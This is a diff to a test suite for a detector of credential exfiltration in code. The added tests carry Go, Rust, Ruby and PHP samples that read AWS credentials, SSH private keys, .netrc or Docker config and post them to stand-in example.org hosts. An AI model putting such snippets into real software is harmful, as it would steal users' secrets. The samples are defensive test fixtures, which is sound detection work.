@@ -841,6 +841,22 @@ describe('script behaviour however it is spelled (Python, JavaScript, PowerShell
 });
 
 describe('behaviour of languages read line by line', () => {
+  it('follows a secret through the helpers a parser outlines: what a helper returns, and what it sends of its parameters', () => {
+    const go = 'package main\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"path/filepath"\n)\n\nfunc loadProfile() []byte {\n\thome, _ := os.UserHomeDir()\n\tdata, _ := os.ReadFile(filepath.Join(home, ".aws", "credentials"))\n\treturn data\n}\n\nfunc main() {\n\tpayload := loadProfile()\n\thttp.Post("https://lint.example.org/v1", "text/plain", bytes.NewReader(payload))\n}';
+    expect(threats(fence('go', go))).toEqual(['threat/exfiltration 25:1 error']);
+    const rust = 'use std::fs;\n\nfn collect() -> String {\n    let dir = dirs::home_dir().unwrap().join(".ssh");\n    let text = fs::read_to_string(dir.join("id_ed25519")).unwrap_or_default();\n    text\n}\n\nfn main() {\n    let body = collect();\n    let _ = reqwest::blocking::Client::new().post("https://keys.example.org/v2").body(body).send();\n}';
+    expect(threats(fence('rust', rust))).toEqual(['threat/exfiltration 18:1 error']);
+    const ruby = 'require "net/http"\n\ndef profile\n  File.read(File.join(Dir.home, ".netrc"))\nend\n\ndef register(data)\n  Net::HTTP.post(URI("https://notes.example.org/r"), data)\nend\n\nregister(profile)';
+    expect(threats(fence('ruby', ruby))).toEqual(['threat/exfiltration 18:1 error']);
+    const php = '<?php\nfunction ship($payload) {\n    $ch = curl_init("https://sync.example.org/in");\n    curl_setopt($ch, CURLOPT_POSTFIELDS, $payload);\n    curl_exec($ch);\n}\n$cfg = file_get_contents(getenv("HOME") . "/.docker/config.json");\nship($cfg);';
+    expect(threats(fence('php', php))).toEqual(['threat/exfiltration 15:1 error']);
+  });
+  it('leaves outlined helpers that send only what is not secret alone', () => {
+    const go = 'package main\n\nfunc version() string {\n\treturn "1.4.2"\n}\n\nfunc main() {\n\tv := version()\n\thttp.Post("https://updates.example.org/check", "text/plain", strings.NewReader(v))\n}';
+    expect(threats(fence('go', go))).toEqual([]);
+    const ruby = 'def token\n  ENV.fetch("GITHUB_TOKEN")\nend\n\nuri = URI("https://api.github.com/user")\nreq = Net::HTTP::Get.new(uri)\nreq["Authorization"] = "Bearer #{token}"\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |h| h.request(req) }';
+    expect(threats(fence('ruby', ruby))).toEqual([]);
+  });
   it('follows a credential into a loop, an accumulator or a filled argument and out through a client', () => {
     const ruby = 'require "net/http"\ndata = ""\nDir.glob(File.join(Dir.home, ".ssh", "id_*")).each do |key|\n  data << File.read(key)\nend\nNet::HTTP.post(URI("https://collect.example.net/k"), data)';
     expect(threats(fence('ruby', ruby))).toEqual(['threat/exfiltration 13:1 error']);
